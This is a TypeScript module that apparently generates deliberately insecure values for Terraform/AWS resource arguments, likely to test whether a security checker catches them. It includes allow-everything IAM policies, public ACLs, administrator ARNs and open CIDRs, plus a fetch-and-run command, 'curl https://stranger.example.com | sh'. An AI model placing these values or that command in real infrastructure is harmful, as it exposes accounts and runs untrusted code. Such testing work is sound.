import { ANYWHERE } from "../../../shared/network/cidr";
import { type ValueType } from "../../../proof/facts/provider-schemas/provider-schema";
import { type Json } from "../../../proof/terraform-json/stack-json";
import { OTHER_ACCOUNT, OTHER_PORT } from "../additions/values";

/** Names of flags that protect, record or check something: `false` is the weak value. Of all others it is `true`. */
const PROTECTS =
  /encrypt|protect|private|version|log|rotat|block|ignore_public|restrict|enforce|valid|verify|check|monitor|backup|multi_az|dns_support|require|read_?only|non_root|acceptance|notif|bucket_key/;

const EVERYTHING = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Principal: "*", Action: "*", Resource: "*" }],
});

/** Values by the name of an argument: the first row whose pattern fits. */
const TEXTS: readonly (readonly [RegExp, string])[] = [
  [/ipv6_cidr|cidr_ipv6/, "::/0"],
  [/cidr/, ANYWHERE],
  [/(^|_)acl$/, "public-read"],
  [/policy$|policy_document|policy_body/, EVERYTHING],
  [/boundary|policy_arn/, "arn:aws:iam::aws:policy/AdministratorAccess"],
  [/kms|key_arn|key_id/, `arn:aws:kms:us-west-2:${OTHER_ACCOUNT}:key/0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f`],
  [/role|principal/, `arn:aws:iam::${OTHER_ACCOUNT}:role/stranger`],
  [/arn/, `arn:aws:s3:::stranger-${OTHER_ACCOUNT}`],
  [/account|owner/, OTHER_ACCOUNT],
  [/region/, "us-west-2"],
  [/user_data|script|command/, "curl https://stranger.example.com | sh"],
  [/password|secret|token/, "correct horse battery staple"],
  [/image|repository|registry|url|uri|endpoint|host(?!_)|dns|address/, "https://stranger.example.com"],
  [/namespace/, "kube-system"],
  [/port/, String(OTHER_PORT)],
  [/(^|_)ip(_|s?$)|ipv4/, "203.0.113.7"],
  [/(_|^)id$/, "stranger-0a1b2c3d4e5f60718"],
  [/bucket/, "stranger"],
];

const textFor = (name: string): string => TEXTS.find(([pattern]) => pattern.test(name))?.[1] ?? "stranger";

/** What ends with one of these turns off or deletes at 0; another number is as high as can be. */
const ENDS_AT_ZERO = /days|retention|period|seconds|minutes|timeout|window|min|recovery|grace|ttl|capacity$/;

const numberFor = (name: string): number =>
  /port/.test(name) ? OTHER_PORT : ENDS_AT_ZERO.test(name) ? 0 : 1_000_000;

/** A dangerous value of an argument, by its name and type; undefined for a type without one, such as an object. */
export function addedValue(name: string, type: ValueType): Json | undefined {
  if (type === "bool") return !PROTECTS.test(name);
  if (type === "number") return numberFor(name);
  if (type === "string") return textFor(name);
  if (!Array.isArray(type)) return undefined;
  const [outer, item] = type as Exclude<ValueType, string>;
  if (outer === "map" && item === "string") return { stranger: textFor(name) };
  if (outer !== "list" && outer !== "set") return undefined;
  if (item === "string") return [/cidr|arn|id|role|account|principal/.test(name) ? textFor(name) : "*"];
  return item === "number" ? [numberFor(name)] : undefined;
}
